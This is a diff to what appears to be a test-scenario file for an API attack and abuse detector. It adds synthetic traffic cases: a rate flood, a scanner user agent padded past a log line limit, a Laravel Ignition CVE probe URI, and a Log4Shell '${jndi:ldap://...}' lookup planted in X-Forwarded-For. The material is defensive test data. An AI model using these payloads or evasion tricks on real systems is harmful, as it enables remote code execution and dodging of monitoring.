@@ -672,6 +672,40 @@ def a_slow_probing(ctx: Ctx) -> Traffic:
     return Traffic(deliveries=[d for d in deliveries if d], probe_ips=[ip])
 
 
+def a_browser_flood(ctx: Ctx) -> Traffic:
+    """5.6 req/s (2.8x the free plan) for 10 minutes with a browser's agent and jittered timing."""
+    ip, me = ctx.ip(), ctx.account_id
+    lines = [
+        Line(at, ip, f"/items/{ctx.rng.randrange(1, 5000)}", "/items/{id}", me, 200, BROWSER_UAS[1])
+        for at in gaps(ctx.rng, ctx.end_ms - 10 * MIN, 3360, 1000 / 5.6)
+    ]
+    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)
+
+
+def a_padded_scanner(ctx: Ctx) -> Traffic:
+    """A scanner's agent padded past the 16 KiB line limit (lines over it used to be skipped whole)."""
+    agent = (
+        "Mozilla/5.0 "
+        + "A" * 20_000
+        + " (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
+    )
+    return few(ctx, [(p, agent) for p in ("/", "/items/1", "/me", "/status")])
+
+
+def a_cve_probe(ctx: Ctx) -> Traffic:
+    """One request for a published CVE's probe URI (Laravel Ignition, CVE-2021-3129)."""
+    return few(ctx, [("/_ignition/execute-solution", BROWSER_UAS[0])])
+
+
+def a_forwarded_payload(ctx: Ctx) -> Traffic:
+    """A Log4Shell lookup planted in X-Forwarded-For, one request."""
+    ip, me = ctx.ip(), ctx.account_id
+    line = Line(
+        ctx.end_ms - MIN, ip, "/me", "/me", me, 200, BROWSER_UAS[0], forwarded="${jndi:ldap://203.0.113.5/a}"
+    )
+    return traffic([line], ip)
+
+
 def a_cpu(ctx: Ctx) -> Traffic:
     """40 CPU-s every 5 minutes for 20 minutes on the free plan (5 per 5 minutes)."""
     return Traffic(metrics=cpu_series(ctx, [1.0, 40.0, 40.0, 40.0, 40.0]))
@@ -770,7 +804,6 @@ SCENARIOS: list[Scenario] = [
         "standard",
         "a mobile app: 40 users in an hour, 6 app versions",
         h_mobile,
-        known="mobile-users-as-key-sharing",
     ),
     Scenario(
         "integration-plan-rate",
@@ -778,7 +811,6 @@ SCENARIOS: list[Scenario] = [
         "standard",
         "an integration at its plan's 5 req/s, retrying 429/503",
         h_integration_full,
-        known="plan-rate-integration-as-crawl",
         fast=True,
     ),
     Scenario(
@@ -787,7 +819,6 @@ SCENARIOS: list[Scenario] = [
         "business",
         "an ERP syncing distinct orders at 30 req/s (60 % of plan)",
         h_business_30rps,
-        known="sync-at-60pct-plan-rate",
     ),
     Scenario(
         "free-integration-plan-rate",
@@ -810,7 +841,6 @@ SCENARIOS: list[Scenario] = [
         "standard",
         "a CRM sync meeting six deleted customers (404)",
         h_crm_deleted,
-        known="crm-404-as-foreign-probe",
         fast=True,
     ),
     Scenario(
@@ -819,7 +849,6 @@ SCENARIOS: list[Scenario] = [
         "free",
         "a phone user behind carrier NAT shared with a key stuffer",
         h_cgnat,
-        known="cgnat-source-block",
     ),
     Scenario(
         "corporate-proxy",
@@ -841,7 +870,6 @@ SCENARIOS: list[Scenario] = [
         "standard",
         "downloads of its own .exe installers, a .sql migration, composer.json",
         h_installers,
-        known="downloads-as-sensitive-paths",
     ),
     Scenario(
         "burst-replayed-late",
@@ -915,6 +943,18 @@ SCENARIOS: list[Scenario] = [
     Scenario(
         "payload-in-user-agent", A, "free", "shellshock / jndi / XSS in the user agent", a_ua_payload, ("D1",)
     ),
+    Scenario("cve-single-probe", A, "standard", "one CVE probe URI request", a_cve_probe, ("D1",)),
+    Scenario(
+        "payload-in-forwarded-for",
+        A,
+        "standard",
+        "${jndi:..} in X-Forwarded-For",
+        a_forwarded_payload,
+        ("D1",),
+    ),
+    Scenario(
+        "padded-scanner-agent", A, "standard", "a nuclei agent padded past 16 KiB", a_padded_scanner, ("D1",)
+    ),
     Scenario(
         "sqli-spellings", A, "standard", "union/**/select, AND 1=1, pg_sleep(", a_sqli_spellings, ("D1",)
     ),
@@ -969,6 +1009,14 @@ SCENARIOS: list[Scenario] = [
         a_flood,
         ("D5a", "D5b", "D5"),
         fast=True,
+    ),
+    Scenario(
+        "browser-flood-280pct",
+        A,
+        "free",
+        "5.6 req/s for 10 minutes, browser agent, jittered",
+        a_browser_flood,
+        ("D5a", "D5b", "D5"),
     ),
     Scenario("id-enumeration", A, "standard", "/users/1..600 in order", a_enumeration, ("W5",)),
     Scenario("crawl", A, "standard", "900 distinct product pages at machine rate", a_crawl, ("W5",)),
